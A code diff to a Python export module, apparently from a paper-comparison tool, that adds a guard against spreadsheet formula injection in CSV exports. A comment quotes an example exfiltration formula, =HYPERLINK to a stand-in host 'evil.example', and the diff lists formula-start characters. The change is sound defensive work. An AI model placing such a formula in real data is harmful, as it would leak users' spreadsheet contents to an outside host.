@@ -3,7 +3,8 @@ as JSON, Markdown, BibTeX and CSV (the references); `describe` for the terminal.
 
 Untrusted text (titles, authors, cells, model output) is Markdown-escaped with assistant.text's
 `md_escape`, the escaper the UI uses, and links are written only when `safe_url` accepts them
-(http/https), so an exported file is as inert as the page that offered it.
+(http/https), so an exported file is as inert as the page that offered it. A CSV cell never starts
+a spreadsheet formula (`csv_cell`).
 """
 
 from __future__ import annotations
@@ -42,17 +43,34 @@ def comparison_json(c: Comparison) -> dict[str, Any]:
     }
 
 
+# A spreadsheet runs a cell that starts with "=", "+", "-" or "@" as a formula (tab and CR can hide
+# such a start): `=HYPERLINK("http://evil.example/?x="&A1,"Click")` in a title would send the sheet's
+# data away. OWASP's fix: a leading single quote, which the spreadsheet shows as text.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> object:
+    """A CSV cell that a spreadsheet shows as text, never runs as a formula (numbers stay numbers)."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
+def _csv_row(writer: Any, row: Sequence[object]) -> None:
+    writer.writerow([csv_cell(v) for v in row])
+
+
 def comparison_csv(c: Comparison) -> str:
     """One row per paper: id, title, then per aspect its text ("not stated") and its quote."""
     buf = io.StringIO()
     writer = csv.writer(buf, lineterminator="\n")
-    writer.writerow(["id", "title", *[col for a in c.aspects for col in (a, f"{a} quote")]])
+    _csv_row(writer, ["id", "title", *[col for a in c.aspects for col in (a, f"{a} quote")]])
     for p in c.papers:
         row = [p.id, p.title]
         for a in c.aspects:
             cell = p.cells[a]
             row += [cell.text or NOT_STATED, cell.quote or ""]
-        writer.writerow(row)
+        _csv_row(writer, row)
     return buf.getvalue()
 
 
@@ -145,8 +163,8 @@ def summary_csv(s: Summary) -> str:
     writer = csv.writer(buf, lineterminator="\n")
     writer.writerow(["n", "id", "title", "authors", "year", "url"])
     for r in s.references:
-        writer.writerow([r.n, r.id, r.title, "; ".join(a for a in r.authors if a.strip()), r.year or "",
-                         safe_url(r.url) or ""])
+        _csv_row(writer, [r.n, r.id, r.title, "; ".join(a for a in r.authors if a.strip()), r.year or "",
+                          safe_url(r.url) or ""])
     return buf.getvalue()
 
 
